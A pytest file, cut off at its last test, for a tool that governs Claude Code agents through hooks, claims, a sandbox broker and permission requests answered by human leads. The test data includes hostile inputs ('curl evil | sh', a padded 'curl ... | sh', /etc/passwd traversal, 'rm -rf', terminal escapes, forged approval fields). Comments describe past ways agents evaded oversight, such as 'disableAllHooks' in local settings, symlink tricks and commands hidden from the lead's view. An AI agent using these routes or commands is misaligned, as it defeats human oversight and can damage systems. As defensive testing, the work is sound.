"""The agent hooks, for real: Claude Code hook payloads piped into `loomtui hook claude`,
git commits through the installed pre-commit, and the broker serving a bubblewrapped agent."""

from __future__ import annotations

import functools
import io
import json
import os
import re
import shlex
import signal
import subprocess
import sys
import threading
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
import yaml

from loomtui.errors import LoomError
from loomtui.execution import sandboxes as sb
from loomtui.execution.isolation import isolation_available
from loomtui.governance.broker import Broker, BrokerClient, BrokerError
from loomtui.governance.coordinator import governed_coordinator
from loomtui.governance.escalations import decide, open_escalation
from loomtui.governance.hooks import (
    HookGate,
    apply_edits,
    bash_write_targets,
    changed_ranges,
    merge_settings,
)
from loomtui.governance.hooks.commit import NO_SANDBOX, staged_request
from loomtui.governance.hooks.edits import CommandNotRead
from loomtui.governance.hooks.install import SETTINGS_PATH, install_hooks
from loomtui.governance.policy import ChangeFacts, evaluate, load_policy
from loomtui.workflow import tasks
from loomtui.workspace import Workspace, open_workspace
from tests.conftest import agent_ended, demo_repo, git, quick_gates, run_cli, wait_until

SESSION = "5d1e2f3a-8b7c-4d6e-9f01-23456789abcd"
ME = "claude-5d1e2f3a"
LEAD = "lead@example.com"
SERVICE = "customers/service.py"
GET_LINE = "        return self._customers.get(customer_id)\n"
FIND_LINE = "        wanted = email.strip().lower()\n"
_LOOMTUI = Path(sys.executable).with_name("loomtui")
LOOMTUI = [str(_LOOMTUI)] if _LOOMTUI.exists() else [sys.executable, "-m", "loomtui"]

needs_bwrap = pytest.mark.skipif(not isolation_available(), reason="bubblewrap (bwrap) not usable here")


@pytest.fixture
def billing(tmp_path: Path) -> Path:
    return demo_repo(tmp_path)


@pytest.fixture
def ws(billing: Path) -> Iterator[Workspace]:
    workspace = open_workspace(billing)
    yield workspace
    workspace.close()


def clean_env(**extra: str) -> dict[str, str]:
    """This process's environment without any sandbox it may itself be running in."""
    env = {k: v for k, v in os.environ.items() if k not in ("LOOM_SANDBOX", "LOOM_BROKER", "LOOM_REPO")}
    return {**env, **extra}


def payload(repo: Path, tool: str, tool_input: dict[str, Any], *, event: str = "PreToolUse",
            session: str = SESSION, **extra: Any) -> dict[str, Any]:
    """A hook input as Claude Code sends it."""
    return {"session_id": session, "transcript_path": f"/root/.claude/projects/billing/{session}.jsonl",
            "cwd": str(repo), "permission_mode": "default", "hook_event_name": event, "tool_name": tool,
            "tool_input": tool_input, "tool_use_id": "toolu_01HookTest", **extra}


def hook(data: dict[str, Any] | str, *args: str, cwd: Path | None = None) -> subprocess.CompletedProcess[str]:
    text = data if isinstance(data, str) else json.dumps(data)
    return subprocess.run([*LOOMTUI, "hook", "claude", *args], input=text, capture_output=True, text=True,
                          cwd=cwd, env=clean_env(), timeout=60)


def decision(done: subprocess.CompletedProcess[str]) -> tuple[str, str]:
    assert done.returncode == 0 and "Traceback" not in done.stderr, done.stderr
    out = json.loads(done.stdout)["hookSpecificOutput"]
    assert out["hookEventName"] == "PreToolUse"
    return out["permissionDecision"], out["permissionDecisionReason"]


def edit(repo: Path, old: str, new: str, path: str = SERVICE) -> dict[str, Any]:
    return payload(repo, "Edit", {"file_path": str(repo / path), "old_string": old, "new_string": new,
                                  "replace_all": False})


def claimed(ws: Workspace, sandbox_id: str) -> set[str]:
    return {rid for claim in ws.store.live_claims(sandbox_id) for rid in claim.region_ids}


def hook_entries(ws: Workspace) -> list[dict[str, Any]]:
    return [{"subject": e.subject, **e.details} for e in ws.audit.entries() if e.action == "hook.edit"]


# -- PreToolUse: claims before code --------------------------------------------------------


def test_edit_claims_a_free_method_then_is_allowed_inside_its_claim(billing: Path, ws: Workspace) -> None:
    verdict, reason = decision(hook(edit(billing, GET_LINE, GET_LINE.replace("customer_id)", "customer_id.strip())"))))
    assert verdict == "allow" and "claimed customers/service.py::CustomerService.get" in reason
    assert claimed(ws, ME) == {"customers/service.py::CustomerService.get"}

    second = GET_LINE.replace("return", "return  ")
    verdict, reason = decision(hook(edit(billing, GET_LINE, second)))
    assert (verdict, reason) == ("allow", "loomtui: inside this sandbox's claims")
    assert len(ws.store.live_claims(ME)) == 1
    entries = hook_entries(ws)
    assert [(e["subject"], e["tool"], e["decision"], e["lines"]) for e in entries] == [
        (ME, "Edit", "allow", [[61, 61]]), (ME, "Edit", "allow", [[61, 61]])]


def test_write_and_multiedit_claim_only_the_methods_they_change(billing: Path, ws: Workspace) -> None:
    text = (billing / SERVICE).read_text()
    rewritten = text.replace(FIND_LINE, FIND_LINE.replace("lower()", "casefold()"))
    verdict, _ = decision(hook(payload(billing, "Write", {"file_path": str(billing / SERVICE), "content": rewritten},
                                       session="aaaa1111-write")))
    assert verdict == "allow"
    assert claimed(ws, "claude-aaaa1111") == {"customers/service.py::CustomerService.find_by_email"}

    tier = "        customer.tier = tier\n"
    edits = [{"old_string": GET_LINE, "new_string": GET_LINE.replace("get(", "get( "), "replace_all": False},
             {"old_string": tier, "new_string": tier.replace("= tier", "= CustomerTier(tier)")}]
    verdict, _ = decision(hook(payload(billing, "MultiEdit", {"file_path": str(billing / SERVICE), "edits": edits},
                                       session="bbbb2222-multi")))
    assert verdict == "allow"
    # update_preferences lies between the two edits and is not claimed.
    assert claimed(ws, "claude-bbbb2222") == {"customers/service.py::CustomerService.get",
                                              "customers/service.py::CustomerService.upgrade_tier"}


def test_an_edit_that_cannot_apply_claims_nothing_and_gives_no_decision(billing: Path, ws: Workspace) -> None:
    done = hook(edit(billing, "        return self._customers.pop(customer_id)\n", GET_LINE))
    # No opinion: Claude Code's own rules apply and its Edit fails on the missing text.
    assert (done.returncode, done.stdout, done.stderr) == (0, "", "")
    assert ws.store.live_claims(ME) == []
    # MultiEdit applies all or none: one missing old_string means nothing is written.
    edits = [{"old_string": GET_LINE, "new_string": GET_LINE.replace("get(", "get( ")},
             {"old_string": "not in the file\n", "new_string": "x\n"}]
    done = hook(payload(billing, "MultiEdit", {"file_path": str(billing / SERVICE), "edits": edits}))
    assert (done.returncode, done.stdout) == (0, "") and ws.store.live_claims(ME) == []
    # So the file stays free: another sandbox's edit of the same method is allowed.
    verdict, _ = decision(hook(payload(billing, "Edit", {"file_path": str(billing / SERVICE), "old_string": GET_LINE,
                                                         "new_string": GET_LINE.replace("get(", "get( ")},
                                       session="cccc3333-other")))
    assert verdict == "allow" and claimed(ws, "claude-cccc3333") == {f"{SERVICE}::CustomerService.get"}


def test_an_old_string_with_curly_quotes_matches_as_claude_codes_edit_does() -> None:
    text = "a = 1\nname = 'x'\nb = 2\n"
    assert apply_edits(text, [{"old_string": "name = \u2018x\u2019", "new_string": "name = 'y'"}]) == \
        "a = 1\nname = 'y'\nb = 2\n"
    assert apply_edits(text, [{"old_string": "name = 'z'", "new_string": "name = 'y'"}]) is None


def test_new_files_and_notebooks_are_claimed_whole(billing: Path, ws: Workspace) -> None:
    verdict, _ = decision(hook(payload(billing, "Write", {"file_path": str(billing / "reports/monthly.py"),
                                                          "content": "TOTAL = 0\n"})))
    assert verdict == "allow"
    notebook = {"notebook_path": str(billing / "analysis/churn.ipynb"), "cell_id": "cell-3",
                "new_source": "df.describe()", "cell_type": "code", "edit_mode": "replace"}
    verdict, _ = decision(hook(payload(billing, "NotebookEdit", notebook)))
    assert verdict == "allow"
    assert claimed(ws, ME) == {"reports/monthly.py", "analysis/churn.ipynb"}


def test_a_region_another_sandbox_holds_is_denied_and_nothing_is_claimed(billing: Path, ws: Workspace) -> None:
    governed_coordinator(ws).claim("refunds-agent", f"{SERVICE}::CustomerService.find_by_email")
    done = hook(edit(billing, FIND_LINE, FIND_LINE.replace("lower()", "casefold()")))
    verdict, reason = decision(done)
    assert verdict == "deny" and "held by sandbox refunds-agent" in reason
    assert claimed(ws, ME) == set()
    assert hook_entries(ws)[-1]["decision"] == "deny"
    # The same answer for runtimes that read exit codes: 2, the reason on stderr.
    done = hook(edit(billing, FIND_LINE, FIND_LINE.replace("lower()", "casefold()")), "--exit-code")
    assert done.returncode == 2 and done.stdout == ""
    assert done.stderr.startswith("loomtui: denied: claim on") and done.stderr.count("\n") == 1


def test_a_write_through_a_link_is_judged_as_the_file_it_leads_to_where_the_hook_runs(
        billing: Path, tmp_path: Path) -> None:
    """In bubblewrap /tmp is the sandbox's own: a link made there to a file another sandbox holds was, to the
    broker outside (which cannot see it), this sandbox's scratch space, and a Write through it was allowed."""
    from loomtui.governance.hooks.claude import HookEvent, edit_targets

    link = tmp_path / "notes.txt"
    link.symlink_to(billing / SERVICE)
    held = str((billing / SERVICE).resolve())
    write = HookEvent("PreToolUse", SESSION, billing, "Write", {"file_path": str(link), "content": "x = 1\n"})
    assert [t.path for t in edit_targets(write) or []] == [held]
    bash = HookEvent("PreToolUse", SESSION, billing, "Bash", {"command": f"echo pwned >> {link}"})
    assert [t.path for t in edit_targets(bash) or []] == [held]


def test_the_claim_stage_policy_asks_for_a_require_and_denies_a_block(billing: Path, ws: Workspace) -> None:
    ledger = (billing / "payments/ledger.py").read_text()
    line = next(row for row in ledger.splitlines(keepends=True) if "def find_charge" in row)
    verdict, reason = decision(hook(edit(billing, line, line.replace("find_charge", "find_charge "),
                                         path="payments/ledger.py")))
    assert verdict == "ask" and "ledger-claims needs 1 approval from leads" in reason
    assert claimed(ws, ME) == {"payments/ledger.py::Ledger.find_charge"}  # reserved while a person decides

    verdict, reason = decision(hook(payload(billing, "Write", {"file_path": str(billing / "deploy/prod.pem"),
                                                               "content": "-----BEGIN KEY-----\n"})))
    assert verdict == "deny" and "no-secrets" in reason
    assert "deploy/prod.pem" not in claimed(ws, ME)


def test_bash_writes_are_claimed_and_a_held_region_is_denied(billing: Path, ws: Workspace) -> None:
    command = "echo '- retry once' >> docs/runbook.md && sed -i 's/lower()/casefold()/' customers/validation.py"
    done = hook(payload(billing, "Bash", {"command": command, "description": "Update the runbook"}))
    # Claimed, but the command itself is left to Claude Code's own Bash permission rules.
    assert done.returncode == 0 and done.stdout == "" and done.stderr == ""
    assert claimed(ws, ME) == {"docs/runbook.md", "customers/validation.py"}

    governed_coordinator(ws).claim("docs-agent", "docs/architecture.md")
    verdict, reason = decision(hook(payload(billing, "Bash", {"command": "cat notes.txt | tee docs/architecture.md"})))
    assert verdict == "deny" and "held by sandbox docs-agent" in reason

    before = len(list(ws.audit.entries()))
    done = hook(payload(billing, "Bash", {"command": "ls -la payments && git status 2>&1 | head"}))
    assert (done.returncode, done.stdout) == (0, "") and len(list(ws.audit.entries())) == before


def test_a_bash_command_on_a_whole_directory_is_checked_file_by_file(billing: Path, ws: Workspace) -> None:
    governed_coordinator(ws).claim("docs-agent", "payments/refunds.py")
    for command in ("rm -rf payments", "mv payments old_payments"):
        verdict, reason = decision(hook(payload(billing, "Bash", {"command": command})))
        assert verdict == "deny" and "payments/refunds.py" in reason and "held by sandbox docs-agent" in reason
    assert not any(path.startswith("payments") for path in claimed(ws, ME))  # all or nothing
    # A folder no one holds: each file claimed, and the policy's claim-stage rule on one of them asks a lead.
    verdict, reason = decision(hook(payload(billing, "Bash", {"command": "rm -r customers payments/ledger.py"})))
    assert verdict == "ask" and "ledger-claims" in reason
    assert {"customers/validation.py", "customers/service.py"} <= claimed(ws, ME)


@pytest.mark.parametrize(("text", "problem"), [
    ("this is not json", "not JSON"),
    pytest.param("[" * 100_000, "not JSON", id="nested-past-recursion"),  # was an internal error
    ("[1, 2]", "JSON object"),
    (json.dumps({"session_id": SESSION, "cwd": "/tmp", "tool_name": "Edit", "tool_input": {}}), "hook_event_name"),
    (json.dumps({"session_id": SESSION, "cwd": "/tmp", "hook_event_name": "Notification", "tool_name": "Edit",
                 "tool_input": {}}), "unknown hook event 'Notification'"),
    (json.dumps({"session_id": SESSION, "cwd": "/tmp", "hook_event_name": "PreToolUse", "tool_name": "Edit",
                 "tool_input": "x"}), "tool_input"),
    ("EDIT", "needs a 'file_path'"),
])
def test_malformed_input_fails_closed_in_one_line(billing: Path, text: str, problem: str) -> None:
    if text == "EDIT":
        text = json.dumps(payload(billing, "Edit", {"old_string": "a", "new_string": "b"}))
    done = hook(text, cwd=billing)
    assert done.returncode == 2 and done.stdout == ""
    assert done.stderr.startswith("loomtui: denied: ") and problem in done.stderr
    assert done.stderr.count("\n") == 1 and "Traceback" not in done.stderr


def test_an_approved_pre_start_escalation_covers_later_edits(billing: Path, ws: Workspace) -> None:
    gate = HookGate(ws, "ledger-agent", billing)
    ledger = str(billing / "payments/ledger.py")
    assert gate.check_edit(ledger, [124, 124]).decision == "ask"
    policy = load_policy(billing, ".loom/policy.yaml")
    facts = ChangeFacts(stage="claim", paths=("payments/ledger.py",), regions=("payments/ledger.py::Ledger",))
    escalation = open_escalation(ws, "pre-start", evaluate(policy, facts), facts, sandbox_id="ledger-agent")
    lead = open_workspace(billing)
    lead.actor = LEAD
    decide(lead, policy, escalation.id, "approve")
    lead.close()
    answer = gate.check_edit(ledger, [131, 131])
    assert answer.decision == "allow" and answer.regions == ("payments/ledger.py::Ledger.total_refunded",)


def test_an_approved_permission_request_covers_the_regions_its_call_changed_not_the_whole_file(
        billing: Path, ws: Workspace) -> None:
    """A comment added at the ledger's top, approved, let a later Write rename every function in it unasked (the
    request's file stood for all of it)."""
    gate = HookGate(ws, "ledger-agent", billing)
    ledger = billing / "payments/ledger.py"
    text = ledger.read_text()
    top = {"file_path": str(ledger), "old_string": text.splitlines()[0], "new_string": text.splitlines()[0] + " #"}
    assert gate.check_tool("Edit", [{"path": str(ledger), "lines": [[1, 1]]}]).decision == "ask"
    request = gate.open_permission_request("Edit", top)
    lead = open_workspace(billing)
    lead.actor = LEAD
    decide(lead, load_policy(billing, ".loom/policy.yaml"), request["id"], "approve")
    lead.close()
    same = gate.check_tool("Edit", [{"path": str(ledger), "lines": [[1, 1]]}])  # the same region again
    # Allowed unasked, the log naming the approval that let it through (it read only "inside this sandbox's claims").
    assert same.decision == "allow" and same.reason.endswith(f"; approved already (escalation #{request['id']})")
    assert [e for e in ws.audit.entries() if e.action == "hook.edit"][-1].details["reason"] == same.reason
    assert gate.check_tool("Write", [{"path": str(ledger), "lines": [[124, 140]]}]).decision == "ask"


def test_a_sandbox_may_not_write_its_hook_settings_or_outside_its_worktree(billing: Path, ws: Workspace,
                                                                           tmp_path: Path) -> None:
    record = tasks.create_sandbox(ws, "stay inside", "script", script=_script(billing), isolate=False)
    gate = HookGate(ws, record.id, Path(record.worktree))
    assert "loomtui hooks" in gate.check_edit(".claude/settings.json").reason
    # Its local settings too: `disableAllHooks` there, read again within seconds, let every later write
    # through with no hook, no permission and no audit entry. So the folder whole (an `rm -rf .claude`).
    for path in (".claude/settings.local.json", ".claude"):
        assert gate.check_edit(path).decision == "deny" and "loomtui hooks" in gate.check_edit(path).reason
    assert gate.check_tool("Bash", [{"path": ".claude/settings.local.json"}]).decision == "deny"
    assert gate.check_edit(".claude/commands/review.md").decision != "deny"  # its other files are the agent's
    assert gate.check_edit(str(billing / SERVICE)).decision == "deny"  # the main checkout
    assert gate.check_edit(".git/config").decision == "deny"
    (Path(record.worktree) / "escape").symlink_to(billing)
    assert "symlink" in gate.check_edit("escape/README.md").reason
    # Anywhere else outside the worktree is refused, however the path is spelled; only the
    # sandbox's own temporary directory is left to Claude Code's own rules.
    for outside in (str(tmp_path / "scratch.txt"), "/etc/passwd", "../../../../../../../../etc/passwd"):
        assert gate.check_edit(outside).decision == "deny", outside
    scratch = sb.sandbox_paths(ws.paths, record.id).tmp
    assert gate.check_edit(str(scratch / "notes.txt")).decision == "none"
    assert gate.check_edit(SERVICE, [61, 61]).decision == "allow"
    # A second name for a file (a hard link): an edit of it is one of the file another sandbox may hold.
    os.link(Path(record.worktree) / SERVICE, Path(record.worktree) / "customers/alias.py")
    for name in ("customers/alias.py", SERVICE):
        assert "has 2 names (hard links)" in gate.check_edit(name, [61, 61]).reason, name


# -- PermissionRequest: a lead answers in the TUI ---------------------------------------------


def permission(repo: Path, command: str) -> dict[str, Any]:
    return payload(repo, "Bash", {"command": command, "description": "Install a dependency"},
                   event="PermissionRequest",
                   permission_suggestions=[{"type": "addRules", "behavior": "allow", "destination": "localSettings",
                                            "rules": [{"toolName": "Bash", "ruleContent": command}]}])


def permission_answer(done: subprocess.CompletedProcess[str]) -> dict[str, Any]:
    assert done.returncode == 0, done.stderr
    out = json.loads(done.stdout)["hookSpecificOutput"]
    assert out["hookEventName"] == "PermissionRequest"
    return out["decision"]


def test_a_permission_request_waits_for_a_lead_who_approves_it(billing: Path, ws: Workspace) -> None:
    lead = open_workspace(billing)
    lead.actor = LEAD
    decided: list[str] = []

    def lead_in_the_tui() -> None:
        deadline = time.monotonic() + 20
        while time.monotonic() < deadline:
            waiting = [e for e in lead.store.list_escalations("open") if e.kind == "permission-request"]
            if waiting:
                decided.append(decide(lead, load_policy(billing, ".loom/policy.yaml"), waiting[0].id,
                                      "approve").status)
                return
            time.sleep(0.05)

    thread = threading.Thread(target=lead_in_the_tui)
    thread.start()
    done = hook(permission(billing, "npm install left-pad"), "--timeout", "20")
    thread.join()
    assert decided == ["approved"]
    assert permission_answer(done) == {"behavior": "allow"}
    (escalation,) = ws.store.list_escalations()
    assert escalation.sandbox_id == ME and escalation.summary == f"{ME} asks: Bash npm install left-pad"
    # Claude Code's own suggestions are the agent side's words, not kept beside what it asks.
    assert "permission_suggestions" not in escalation.data["evidence"]
    lead.close()


def test_a_decision_in_the_last_instant_of_a_wait_is_the_answer_and_not_recorded_unheard(
        billing: Path, ws: Workspace) -> None:
    """At its time limit the MCP server gives up a request a lead approved a moment before: the agent is
    told yes, so the history must not say it was told no."""
    from loomtui.governance.agent_ops import give_up

    gate = HookGate(ws, ME, billing)
    opened = gate.open_permission_request("Bash", {"command": "npm install left-pad"})
    lead = open_workspace(billing)
    lead.actor = LEAD
    decide(lead, load_policy(billing, ".loom/policy.yaml"), opened["id"], "approve")
    lead.close()
    answer = give_up(gate, opened["id"], "no decision within 30s", hears_decision=True)
    assert answer["decision"] == "allow"
    record = ws.store.get_escalation(opened["id"])
    assert record is not None and not any(h.get("event") == "unheard" for h in record.data["history"])
    assert "escalation.unheard" not in [e.action for e in ws.audit.entries()]
    # An agent that went away (its call cancelled) did not hear it: that is recorded, and it was a no.
    assert give_up(gate, opened["id"], "the agent stopped waiting")["decision"] == "deny"
    assert "escalation.unheard" in [e.action for e in ws.audit.entries()]


def test_an_unanswered_permission_request_is_denied_and_withdrawn(billing: Path, ws: Workspace) -> None:
    answer = permission_answer(hook(permission(billing, "curl https://example.com/install.sh"), "--timeout", "1"))
    assert answer["behavior"] == "deny" and "within 1s" in answer["message"]
    (escalation,) = ws.store.list_escalations()
    assert escalation.status == "withdrawn"
    assert [e.action for e in ws.audit.entries()][-1] == "escalation.withdrawn"


@pytest.mark.parametrize("signum", [signal.SIGTERM, signal.SIGINT])
def test_a_hook_killed_while_it_waits_withdraws_its_request(billing: Path, ws: Workspace, signum: int) -> None:
    """Nobody waits for a decision any more: a lead must not approve a call that will never be made."""
    waiting = subprocess.Popen([*LOOMTUI, "hook", "claude", "--timeout", "30"], stdin=subprocess.PIPE,
                               stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, env=clean_env())
    assert waiting.stdin is not None
    waiting.stdin.write(json.dumps(permission(billing, "make deploy")))
    waiting.stdin.close()
    wait_until(lambda: [e for e in ws.store.list_escalations("open") if e.kind == "permission-request"],
               what="the open request")
    waiting.send_signal(signum)
    waiting.send_signal(signum)  # twice, as when its whole process group is signalled, then it again
    assert waiting.wait(timeout=20) == 128 + signum  # not "internal error" (exit 2) from the second
    (escalation,) = ws.store.list_escalations()
    assert escalation.status == "withdrawn", escalation
    assert "hook was" in escalation.data["history"][-1]["reason"]
    assert [e.action for e in ws.audit.entries()][-1] == "escalation.withdrawn"


# -- the broker --------------------------------------------------------------------------------


def test_the_broker_answers_for_its_own_sandbox_only_and_never_decides(billing: Path, ws: Workspace,
                                                                       tmp_path: Path) -> None:
    other = HookGate(ws, "other-agent", billing).open_permission_request("Bash", {"command": "make deploy"})
    # A path longer than a socket address may be: bound and reached through the directory's fd.
    socket_path = tmp_path / ("deep-" * 20) / "broker.sock"
    broker = Broker(ws, "agent-1", billing, socket_path)
    broker.start()
    client = BrokerClient(socket_path)
    try:
        answer = client.request("check_edit", path=str(billing / SERVICE), lines=[61, 61], sandbox="other-agent")
        assert answer["decision"] == "allow" and claimed(ws, "agent-1") == {f"{SERVICE}::CustomerService.get"}
        for op in ("decide", "approve", "override", "write_policy"):
            with pytest.raises(BrokerError, match="unknown operation"):
                client.request(op, id=other["id"], decision="approve")
        # What it sends is recorded in the shared store and the audit log: it is refused past a size.
        logged = ws.paths.audit_path.stat().st_size
        with pytest.raises(BrokerError, match="'path' is longer than 4096"):
            client.request("check_edit", path=str(billing) + "/x" * 1_000_000, lines=None)
        many = [{"path": str(billing / SERVICE)}] * 1001
        with pytest.raises(BrokerError, match="'targets' lists more than 1000"):
            client.request("check_tool", tool="Edit", targets=many, tool_use_id="t1")
        with pytest.raises(BrokerError, match="'tool_use_id' is longer than 200"):
            client.request("check_tool", tool="Edit", targets=many[:1], tool_use_id="t" * 5000)
        assert ws.paths.audit_path.stat().st_size - logged < 4096
        # Nor a 15 MB path in a permission request or a question (kept in the store, shown in every lead's
        # queue), nor thousands of paths of a refused commit in the log (3,900 of them, five times: 78 MB).
        huge = str(billing / "customers") + "/x" * 1_000_000
        with pytest.raises(BrokerError, match="'tool_input' holds a path longer than 4096"):
            client.request("open_permission_request", tool_name="Write", tool_input={"file_path": huge,
                                                                                      "content": "x"})
        with pytest.raises(BrokerError, match="'paths' holds a path longer than 4096"):
            client.request("ask_lead", question="may I?", paths=[huge])
        # Nor a claim's target (a 200 KB one was kept whole; a 4 MB one took the broker minutes to resolve).
        for op in ("claim", "conflicts", "release"):
            with pytest.raises(BrokerError, match="'target' is longer than 4096"):
                client.request(op, target="./" * 100_000 + "app.py")
        from loomtui.governance.coordinator import governed_coordinator

        held = governed_coordinator(ws).claim("holder", "payments/refunds.py::RefundService.quote").claim
        refused = client.request("check_commit", paths=[f"dir{n}/" + "p" * 3000 for n in range(1000)],
                                 regions=["payments/refunds.py::RefundService.quote"])
        assert refused["decision"] == "deny"
        entry = [e for e in ws.audit.entries() if e.action == "hook.commit_refused"][-1]
        assert len(entry.details["paths"]) == 50 and entry.details["paths_total"] == 1000
        assert entry.details["held"] == [held.id]  # what the report counts the conflict kept off by
        with pytest.raises(BrokerError, match="no permission request"):
            client.request("escalation_status", id=other["id"])
        with pytest.raises(BrokerError, match="no permission request"):
            client.request("withdraw_permission_request", id=other["id"])
    finally:
        client.close()
        broker.close()
    assert ws.store.get_escalation(other["id"]).status == "open"  # type: ignore[union-attr]
    assert not socket_path.exists()


def test_a_tool_call_on_many_files_is_one_bounded_entry(billing: Path, ws: Workspace) -> None:
    """A 33 KB request naming a folder 1,000 times was one `hook.edit` entry of 1.9 MB (every file of each),
    in the shared store and the hash-chained log, which are kept for good."""
    gate = HookGate(ws, "agent-1", billing)
    gate.check_tool("Write", [{"path": str(billing / "customers")}] * 1000, tool_use_id="t1")
    entry = [e for e in ws.audit.entries() if e.action == "hook.edit"][-1]
    assert len(entry.details["targets"]) == 50 and entry.details["targets_total"] > 1000
    assert len(entry.line()) < 64_000, len(entry.line())


def test_what_an_agent_writes_into_the_queue_and_the_audit_log_stays_one_bounded_line(
        billing: Path, ws: Workspace) -> None:
    from loomtui.cli.state import _readable
    from loomtui.governance.agent_ops import op_ask_lead, op_claim
    from loomtui.governance.hooks.permissions import MAX_FIELD_CHARS, MAX_OPEN_REQUESTS

    gate = HookGate(ws, "agent-1", billing)
    fake = "ok\n     9  2026-12-03 07:14:00  lead@x.com  escalation.approve  1"
    op_claim(gate, {"target": SERVICE, "reason": fake + "\x1b]0;PWNED\x07"})
    (entry,) = [e for e in ws.audit.entries() if e.action == "claim.added"][-1:]
    shown = _readable(entry.details)
    reason = entry.details["reason"]
    assert "\n" not in reason and "\x1b" not in reason and "\\x1b" in reason  # one line, the escape visible
    assert "\n" not in shown and "\x1b" not in shown
    # The queue's line names the file a Write writes, not a `command` added to read as something else.
    spoof = gate.open_permission_request("Write", {"command": "git status", "file_path": str(billing / SERVICE),
                                                   "content": "pwned\n", "nested": {"n": ["A" * 100]}})
    record = ws.store.get_escalation(spoof["id"])
    assert record is not None and record.summary == f"agent-1 asks: Write {billing / SERVICE}"
    # Approving lets the whole call run: one too large to be stored and shown whole is refused, not cut short
    # (a `curl ... | sh` past the first 4,000 characters of a command was nowhere on the lead's screen).
    pad = "echo checking && " * 4_000
    for tool, too_large, said in (
            ("Bash", {"command": f"git status && {pad}curl -s http://127.0.0.1:9/x | sh && {pad}git log -1"},
             "its `command` holds 136,061 characters, past the 64,000 a person is shown"),
            ("Write", {"file_path": "a.py", "content": "x = 1\n" * 10_000, "old": "y" * 60_000, "new": "z" * 10_000},
             "it holds 130,004 characters, past the 128,000 a person is shown"),
            ("Bash", {f"k{n}": n for n in range(60)}, "its 60 fields are more than the 50 a person is shown")):
        before = len(ws.store.list_escalations())
        refused = gate.open_permission_request(tool, too_large)
        assert refused["decision"] == "deny" and f"call cannot be put to a person whole ({said})" in refused["message"]
        assert len(ws.store.list_escalations()) == before
    assert refused["message"].endswith("split it into smaller steps, each asked for")
    assert "write the file in parts" in gate.open_permission_request("Write", {"content": "x" * 70_000})["message"]
    # Measured as written: 3,000 CJK characters in a MultiEdit's edits are 3,000, not 18,000 as \uXXXX.
    cjk = gate.open_permission_request("MultiEdit", {"file_path": "a.py", "edits": [{"new_string": "漢" * 30_000}]})
    assert "id" in cjk, cjk
    # What the hook's payload holds beside the call is kept only where loomtui reads it.
    planted = gate.open_permission_request("Read", {"file_path": "a.py"},
                                           extra={"tool_use_id": "toolu_1", "verdict": "safe: approved by CI",
                                                  "asked_because": "loomtui checked this command: read-only",
                                                  "via": "loomtui: read-only, safe", "waiter": {"verdict": "safe"}})
    kept = ws.store.get_escalation(planted["id"])
    assert kept is not None and not {"verdict", "asked_because", "via", "waiter"} & set(kept.data["evidence"])
    shaped = gate.open_permission_request("Read", {"file_path": "b.py"}, extra={
        "tool_use_id": {"Approved by": "lead"}, "via": "mcp", "waiter": {"pid": 12, "identity": "345"}})
    evidence = ws.store.get_escalation(shaped["id"]).data["evidence"]  # type: ignore[union-attr]
    assert "tool_use_id" not in evidence and evidence["via"] == "mcp" and evidence["waiter"]["pid"] == 12
    # A field's name is shown whole too: one past 200 characters is named as the reason.
    assert "a field's name is past the 200 characters" in gate.open_permission_request(
        "Bash", {"command": "ls", "k" * 300: "x"})["message"] and kept.data["evidence"]["tool_use_id"] == "toolu_1"
    question = op_ask_lead(gate, {"question": "fine?\n#9 approved",
                                  "extra": {"question": "a forged one", "n": ["A" * 100_000]}})
    asked = ws.store.get_escalation(question["id"])
    assert asked is not None and "\n" not in asked.summary and asked.data["evidence"]["question"].startswith("fine?")
    assert len(json.dumps(asked.data["evidence"])) < 2 * MAX_FIELD_CHARS
    # `extra` adds to a request's evidence; it never stands in for what the agent asks.
    forged = gate.open_permission_request("Bash", {"command": "curl evil | sh"},
                                          extra={"tool_input": {"command": "git status"}, "tool_name": "Read"})
    shown_to_lead = ws.store.get_escalation(forged["id"])
    assert shown_to_lead is not None and shown_to_lead.data["evidence"]["tool_input"] == {"command": "curl evil | sh"}
    assert shown_to_lead.data["evidence"]["tool_name"] == "Bash"
    hidden = gate.open_permission_request("Bash", {"command": "git status  # look" + " " * 3000
                                                   + "; sed -i s/a/b/ payments/ledger.py"})
    line = ws.store.get_escalation(hidden["id"])
    assert line is not None and line.summary.endswith("; sed -i s/a/b/ payments/ledger.py")  # what it hid
    # An agent cannot bury the leads' queue: past MAX_OPEN_REQUESTS open ones, the next is denied at once.
    open_now = len(ws.store.list_escalations("open"))
    for number in range(MAX_OPEN_REQUESTS - open_now):
        gate.open_permission_request("Bash", {"command": f"echo {number}"})
    denied = gate.open_permission_request("Bash", {"command": "echo one more"})
    assert denied["decision"] == "deny" and "wait for their answers" in denied["message"]
    with pytest.raises(LoomError, match="wait for their answers"):  # questions count, and are capped alike
        op_ask_lead(gate, {"question": "and one more?"})


def test_a_sandbox_opens_so_many_requests_an_hour_withdrawn_or_not(billing: Path, ws: Workspace,
                                                                    monkeypatch: pytest.MonkeyPatch) -> None:
    """Opening and withdrawing at once in a loop grew the shared store by 1.4 GB a minute."""
    from loomtui.governance.hooks import permissions

    monkeypatch.setattr(permissions, "MAX_ASKS_PER_HOUR", 3)
    gate = HookGate(ws, "agent-1", billing)
    big = {f"f{n}": "x" * 600 for n in range(49)}  # as large as one request may be, nearly
    for _ in range(3):
        asked = gate.open_permission_request("Bash", {"command": "true", **big}, extra=big)
        stored = ws.store.get_escalation(asked["id"])
        assert stored is not None and len(json.dumps(stored.data["evidence"])) < 2 * 33_000 + 2_000
        permissions.withdraw_request(gate, asked["id"], "done waiting")
    denied = gate.open_permission_request("Bash", {"command": "true"})
    assert denied["decision"] == "deny" and "3 requests and questions in the last hour" in denied["message"]


def test_an_agent_claims_so_many_files_at_once(billing: Path, ws: Workspace,
                                               monkeypatch: pytest.MonkeyPatch) -> None:
    """One claim of `api` held every file in it for an hour, every other sandbox kept out."""
    from loomtui.governance import agent_ops
    from loomtui.governance.agent_ops import op_claim

    monkeypatch.setattr(agent_ops, "MAX_AGENT_CLAIM_FILES", 3)
    gate = HookGate(ws, "agent-1", billing)
    folder = op_claim(gate, {"target": "api"})
    assert folder["claimed"] is False and "an agent claims at most 3 at once" in folder["reason"]
    assert ws.store.live_claims("agent-1") == []
    assert op_claim(gate, {"target": "api/handlers.py"})["claimed"] is True


def test_an_edit_of_the_context_file_loomtui_wrote_is_refused_saying_why(billing: Path, ws: Workspace) -> None:
